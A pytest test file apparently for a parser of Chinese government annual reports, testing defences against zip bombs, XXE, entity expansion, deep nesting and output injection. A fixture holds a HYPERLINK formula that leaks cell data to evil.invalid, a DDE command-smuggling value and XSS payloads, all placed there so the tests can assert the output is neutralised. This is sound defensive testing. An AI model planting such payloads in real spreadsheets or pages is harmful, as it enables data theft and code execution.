"""Hostile reports (issue 18; issue 17 "Robustness under hostile input"): every case generates its
file (tests/hostile_files.py) and checks the behaviour: bounded output, the documented ReadError
with a Chinese reason, characters replaced and reported, inert spreadsheet and Markdown output.
Time and memory are measured by bench/bench_hostile.py, not here."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest

import hostile_files as hf
import nianbao
from nianbao import limits
from nianbao.document import Grid, Paragraph
from nianbao.errors import ReadError
from nianbao.limits import TimeLimitExceeded
from nianbao.model import Finding, Report, Source
from nianbao.readers import read
from nianbao.rules.catalogue import cap_findings

CJK = re.compile("[\u4e00-\u9fff]")


def write(tmp_path: Path, case: tuple[str, bytes]) -> Path:
    name, data = case
    path = tmp_path / name
    path.write_bytes(data)
    return path


def rules_of(report: Report) -> list[str]:
    return [f.rule for f in report.findings]


def assert_chinese_read_error(exc: ReadError, *words: str) -> None:
    assert CJK.search(exc.reason.split("（")[0]), exc.reason
    for w in words:
        assert w in exc.reason, exc.reason


def assert_writable(report: Report) -> None:
    """JSON (strict UTF-8) and Markdown can be written: no surrogate or control character survives."""
    from nianbao.writers.markdown import to_markdown

    report.to_json().encode("utf-8")
    to_markdown(report).encode("utf-8")


# --------------------------------------------------------------------------- cost: HTML


def test_html_spans_are_clamped_to_the_rows_present(tmp_path: Path) -> None:
    doc = read(write(tmp_path, hf.html_spans(cells=8, span=1000)))
    grids = doc.grids()
    assert len(grids) == 1
    rows = grids[0].rows
    assert len(rows) == 2  # rowspan=1000 does not invent 998 rows
    assert max(len(r) for r in rows) <= 8 * limits.MAX_SPAN + 2
    assert sum(len(r) for r in rows) <= limits.MAX_TABLE_CELLS
    assert [c.text for c in rows[0] if not c.merged] == [str(k) for k in range(8)]


def test_span_budget_is_shared_by_the_copies_of_a_table(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(limits, "MAX_TABLE_CELLS", 300)
    rows = "".join(f'<tr><td rowspan="50" colspan="50">{k}</td><td>{k}</td></tr>' for k in range(50))
    path = tmp_path / "t.html"
    path.write_text(f"<html><body><table>{rows}</table></body></html>")
    grid = read(path).grids()[0]
    assert sum(len(r) for r in grid.rows) <= 300 + 2 * 50  # copies within the budget, plus the cells present


def test_a_million_cell_table_is_cut_with_a_note(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    # the same mechanism as the 1,000 x 1,000 case of the benchmark, at a size a test can afford
    monkeypatch.setattr(limits, "MAX_HTML_TAGS", 4000)
    monkeypatch.setattr(limits, "MAX_TABLE_CELLS", 500)
    doc = read(write(tmp_path, hf.html_table(rows=100, cols=100)))
    cells = sum(len(r) for g in doc.grids() for r in g.rows)
    assert 0 < cells <= 500
    notes = " ".join(n.message for n in doc.notes)
    assert "页面元素过多" in notes and "表格单元格过多" in notes


def test_html_nested_deeper_than_the_recursion_limit_is_read(tmp_path: Path) -> None:
    doc = read(write(tmp_path, hf.html_deep(depth=1900)))  # Python's limit is 1,000; lxml keeps 2,047
    assert any("年度报告正文" in p.text for p in doc.paragraphs())
    doc = read(write(tmp_path, hf.html_deep(depth=5000)))  # deeper than lxml keeps: a note, no error
    assert any("2048" in n.message for n in doc.notes)


def test_html_tables_nested_deeply_are_read(tmp_path: Path) -> None:
    inner = "<table><tr><td>" * 600 + "一段很长的正文" * 30 + "</td></tr></table>" * 600
    path = tmp_path / "tables.html"
    path.write_text(f"<html><body>{inner}</body></html>")
    doc = read(path)
    assert any("一段很长的正文" in p.text for p in doc.paragraphs())


def test_html_with_nul_and_control_characters_is_read(tmp_path: Path) -> None:
    report = nianbao.parse(write(tmp_path, hf.html_controls()))
    assert_writable(report)
    assert any("控制字符" in f.message for f in report.findings)


def test_contact_regex_on_a_long_run_finds_no_false_email(tmp_path: Path) -> None:
    report = nianbao.parse(write(tmp_path, hf.html_long_run(size=50_000)))
    assert report.meta.contact.email is None
    ok = nianbao.parse_text("政府信息公开工作年度报告\n联系电话：0871-1234567，电子邮箱：gk@km.gov.cn。\n")
    assert ok.meta.contact.email == "gk@km.gov.cn"


# --------------------------------------------------------------------------- cost: text


@pytest.mark.parametrize("case", [hf.text_letters, hf.text_space_tab, hf.text_contact])
def test_pathological_text_lines_are_read(tmp_path: Path, case) -> None:  # type: ignore[no-untyped-def]
    report = nianbao.parse(write(tmp_path, case()))
    assert_writable(report)


def test_junk_line_fragments_still_removed() -> None:
    from nianbao.readers.text import _JUNK_FRAGMENT

    assert _JUNK_FRAGMENT.sub("", "发布时间：2023-01-05  字体：[ 大 中 小 ]").strip() == "发布时间：2023-01-05"
    assert _JUNK_FRAGMENT.sub("", " \t" * 5000) == " \t" * 5000


def test_text_over_the_size_limit_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setitem(limits.MAX_FILE_BYTES, "text", 10_000)
    with pytest.raises(ReadError) as err:
        read(write(tmp_path, hf.text_junk(20_000)))
    assert_chinese_read_error(err.value, "过大", "上限")


def test_findings_are_capped_per_rule_with_the_count_kept() -> None:
    many = [Finding(rule="check.x", severity="warning", message=str(k)) for k in range(120)]
    other = [Finding(rule="check.y", severity="info", message="y")]
    out = cap_findings(many + other)
    assert [f.rule for f in out].count("check.x") == limits.FINDINGS_PER_RULE
    summary = [f for f in out if f.rule == "extract.findings_capped"]
    assert len(summary) == 1 and "120" in summary[0].message and summary[0].evidence == "check.x"
    assert out[-1].rule == "check.y"


def test_junk_text_gives_a_bounded_number_of_findings(tmp_path: Path) -> None:
    report = nianbao.parse(write(tmp_path, hf.text_junk(200_000)))
    counts: dict[str, int] = {}
    for r in rules_of(report):
        counts[r] = counts.get(r, 0) + 1
    assert max(counts.values()) <= limits.FINDINGS_PER_RULE


def test_text_with_a_few_nul_and_control_characters_is_read(tmp_path: Path) -> None:
    report = nianbao.parse(write(tmp_path, hf.text_controls()))
    assert_writable(report)
    assert any("控制字符" in f.message for f in report.findings)


# --------------------------------------------------------------------------- numbers


def test_a_5001_digit_number_is_unreadable_not_a_crash(tmp_path: Path) -> None:
    report = nianbao.parse(write(tmp_path, hf.text_digits(5001)))
    assert_writable(report)
    assert "proactive_total" not in report.figures
    assert "extract.number_too_long" in rules_of(report)
    too_long = next(f for f in report.findings if f.rule == "extract.number_too_long")
    assert "5001" in too_long.message and len(too_long.message) < 300


def test_parse_value_limit() -> None:
    from nianbao.normalize import parse_value

    assert parse_value("9" * limits.MAX_DIGITS).value == int("9" * limits.MAX_DIGITS)  # type: ignore[union-attr]
    assert parse_value("9" * (limits.MAX_DIGITS + 1)) is None
    assert parse_value("9" * 5001) is None
    assert parse_value("1,234,567,890") .value == 1234567890  # type: ignore[union-attr]


# --------------------------------------------------------------------------- DOCX


def test_docx_numbering_labels_are_computed(tmp_path: Path) -> None:
    doc = read(write(tmp_path, hf.docx_numbering_start("2147483647")))
    assert doc.paragraphs()[0].text.endswith("总体情况")
    doc = read(write(tmp_path, hf.docx_numbering_start("3999")))
    assert doc.paragraphs()[0].text == "MMMCMXCIX.总体情况"


def test_docx_with_bad_numbering_attributes_is_read(tmp_path: Path) -> None:
    doc = read(write(tmp_path, hf.docx_bad_numbering()))
    texts = [p.text for p in doc.paragraphs()]
    assert [t[-4:] for t in texts] == ["一段正文", "二段正文", "三段正文", "四段正文"]


def test_docx_broken_numbering_part_is_ignored(tmp_path: Path) -> None:
    path = tmp_path / "n.docx"
    path.write_bytes(hf.docx_bytes(hf.w_p("正文", ("1", "0")), numbering="<w:abstractNum"))
    doc = read(path)
    assert doc.paragraphs()[0].text == "正文"
    assert any("已忽略" in n.message for n in doc.notes)


def test_docx_surrogate_symbol_is_replaced_and_reported(tmp_path: Path) -> None:
    report = nianbao.parse(write(tmp_path, hf.docx_surrogate()))
    assert_writable(report)
    assert any("孤立的代理码位" in f.message for f in report.findings)


def test_docx_entity_expansion_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ReadError) as err:
        read(write(tmp_path, hf.docx_entities("laughs")))
    assert_chinese_read_error(err.value, "实体")


def test_docx_external_entity_is_not_resolved(tmp_path: Path) -> None:
    try:
        doc = read(write(tmp_path, hf.docx_entities("xxe")))
    except ReadError as exc:
        assert_chinese_read_error(exc)
        return
    assert "root:" not in doc.plain_text()


def test_docx_zip_bomb_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ReadError) as err:
        read(write(tmp_path, hf.docx_zip_bomb(size=8 * 1024 * 1024)))
    assert_chinese_read_error(err.value, "压缩炸弹")


def test_docx_table_cells_are_capped_with_a_note(tmp_path: Path) -> None:
    doc = read(write(tmp_path, hf.docx_varied_cells(rows=40, cols=700)))
    cells = sum(len(r) for g in doc.grids() for r in g.rows)
    assert limits.MAX_TABLE_CELLS <= cells < limits.MAX_TABLE_CELLS + 700
    assert any("表格单元格过多" in n.message and "11 行未读取" in n.message for n in doc.notes)


def test_docx_nesting_beyond_the_xml_limit_is_refused_in_chinese(tmp_path: Path) -> None:
    with pytest.raises(ReadError) as err:
        read(write(tmp_path, hf.docx_deep(300)))
    assert_chinese_read_error(err.value, "嵌套层数过深")
    doc = read(write(tmp_path, hf.docx_deep(60)))  # deep but within the limit: read
    assert "深处" in doc.plain_text()


# --------------------------------------------------------------------------- PDF


def test_pdf_tounicode_surrogate_is_replaced(tmp_path: Path) -> None:
    report = nianbao.parse(write(tmp_path, hf.pdf_surrogate()))
    assert_writable(report)


def test_pdf_pages_are_read_within_the_character_limit(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from nianbao.readers import pdf as pdf_reader

    monkeypatch.setattr(pdf_reader, "MAX_PDF_CHARS", 1500)
    doc = read(write(tmp_path, hf.pdf_dense(pages=4, lines=10, per_line=40, size=8)))  # ~1,200 chars a page
    assert {b.pos.page for b in doc.blocks} <= {1, 2}
    assert any("只读取了前 2 页" in n.message for n in doc.notes)


def test_pdf_page_tree_loop_ends(tmp_path: Path) -> None:
    try:
        report = nianbao.parse(write(tmp_path, hf.pdf_page_loop()))
    except ReadError as exc:
        assert_chinese_read_error(exc)
    else:
        assert_writable(report)


# --------------------------------------------------------------------------- errors and the time budget


def test_time_budget_gives_a_chinese_read_error(tmp_path: Path) -> None:
    path = write(tmp_path, hf.text_controls())
    with pytest.raises(TimeLimitExceeded) as err:
        nianbao.parse(path, time_budget=1e-9)
    assert_chinese_read_error(err.value, "超时")
    assert str(path) in str(err.value)
    assert nianbao.parse(path, time_budget=0).meta is not None  # 0: no budget


def test_library_exceptions_are_wrapped_with_a_chinese_reason(monkeypatch: pytest.MonkeyPatch,
                                                              tmp_path: Path) -> None:
    from nianbao import readers

    def broken(path: str, data: bytes, sha: str):  # type: ignore[no-untyped-def]
        raise ValueError("invalid literal for int() with base 10: ''")

    monkeypatch.setattr(readers, "reader_for", lambda fmt: broken)
    path = tmp_path / "a.txt"
    path.write_text("x")
    with pytest.raises(ReadError) as err:
        read(path)
    assert_chinese_read_error(err.value, "不合规范")
    assert err.value.reason.startswith("读取失败：")


def test_surrogates_in_parse_text_and_file_names(tmp_path: Path) -> None:
    report = nianbao.parse_text("政府信息公开工作年度报告\n全年主动公开政府信息\ud800 12条。\n", path="x\udcff.txt")
    assert_writable(report)
    assert "\ud800" not in report.to_json()


# --------------------------------------------------------------------------- outputs that act on the reader


def _hostile_report() -> Report:
    report = nianbao.parse_text("政府信息公开工作年度报告\n一、总体情况\n<script>alert(1)</script><img src=x onerror=alert(2)>\n")
    report.meta.organization = '=HYPERLINK("http://evil.invalid/?leak="&A1,"点击")'
    report.meta.title = "=1+2"
    report.source = Source(path="@SUM(1+1)*cmd|' /C calc'!A0", sha256="0" * 64, format="text")
    return report


def test_csv_export_prefixes_formula_starts() -> None:
    from nianbao.writers.export import flatten, write_csv

    buf = io.StringIO()
    write_csv([flatten(_hostile_report())], buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue().lstrip("\ufeff"))))
    assert rows[0]["meta.organization"].startswith("'=HYPERLINK(")
    assert rows[0]["meta.title"] == "'=1+2"
    assert rows[0]["source.path"].startswith("'@")
    for value in rows[0].values():
        assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def test_xlsx_export_writes_text_as_string_cells(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from nianbao.writers.export import flatten, write_xlsx

    target = tmp_path / "x.xlsx"
    write_xlsx([flatten(_hostile_report())], target)
    sheet_xml = zipfile.ZipFile(target).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    ws = load_workbook(target).active
    values = {ws.cell(1, c).value: ws.cell(2, c) for c in range(1, ws.max_column + 1)}
    assert values["meta.title"].value == "=1+2" and values["meta.title"].data_type == "s"
    assert values["meta.organization"].value.startswith("=HYPERLINK(")


def test_spreadsheet_helper_rules() -> None:
    from nianbao.writers.spreadsheet import csv_text, safe_text

    assert csv_text(-3) == -3 and csv_text("-3") == "'-3" and csv_text(None) == ""
    assert csv_text("\tx") == "'\tx" and csv_text("\rx") == "'\rx" and csv_text("正文") == "正文"
    assert safe_text("=A1\x00") == "'=A1\ufffd"


def test_ledger_template_has_no_formula_cells(tmp_path: Path) -> None:
    from nianbao.writers.ledger_template import write_template

    target = tmp_path / "t.xlsx"
    write_template(target, 2023)
    with zipfile.ZipFile(target) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in zf.read(name).decode()


def test_markdown_escapes_html() -> None:
    from nianbao.writers.markdown import to_markdown

    md = to_markdown(_hostile_report())
    assert "<script" not in md and "<img" not in md
    assert "&lt;script&gt;" in md


def test_html_output_and_review_sheet_escape() -> None:
    from nianbao.writers import render_bytes
    from nianbao.writers.review_sheet import render_html, render_markdown

    report = _hostile_report()
    report.findings.append(Finding(rule="check.x", severity="error", message="<script>alert(3)</script>",
                                   evidence="<img src=x onerror=alert(4)>"))
    page = render_bytes(report, "html").decode("utf-8")
    assert "<script>alert" not in page and "onerror=alert" not in page.replace("&lt;img src=x onerror=alert", "")
    sheet = render_html([report])
    assert "<script>alert" not in sheet and "<img src=x" not in sheet
    assert "<script" not in render_markdown([report]) and "<img" not in render_markdown([report])


def test_report_json_of_hostile_report_round_trips() -> None:
    report = _hostile_report()
    assert Report.from_json(report.to_json()).meta.title == "=1+2"
    json.loads(report.to_json())


def test_documents_carry_no_surrogates_after_reading(tmp_path: Path) -> None:
    for case in (hf.docx_surrogate, hf.pdf_surrogate, hf.html_controls, hf.text_controls):
        doc = read(write(tmp_path, case()))
        for b in doc.blocks:
            texts = [b.text] if isinstance(b, Paragraph) else [c.text for r in b.rows for c in r] \
                if isinstance(b, Grid) else []
            for t in texts:
                t.encode("utf-8")
                assert "\x00" not in t


def test_deep_chain_with_metadata_text_collects_no_big_subtree(monkeypatch: pytest.MonkeyPatch,
                                                               tmp_path: Path) -> None:
    """Fuzz case text-4418: 3,000 nested <div>s around '发布时间：…' cost O(depth²) (8 s for 15 KB):
    every level collected its whole subtree to test for a metadata block."""
    from nianbao.readers import html as html_reader

    big: list[int] = []
    real = html_reader._text_with_breaks

    def counting(el):  # type: ignore[no-untyped-def]
        size = sum(1 for _ in el.iter())
        if size > html_reader.META_BLOCK_ELEMENTS + 1:
            big.append(size)
        return real(el)

    monkeypatch.setattr(html_reader, "_text_with_breaks", counting)
    path = tmp_path / "deep-meta.html"
    path.write_text("<html><body><p>发布时间：2023-03-20 " + "<div>" * 1500 + "一、总体情况。报告正文如下所述" + "</div>" * 1500
                    + "</p></body></html>")
    doc = read(path)
    assert "报告正文" in doc.plain_text()
    assert big == []
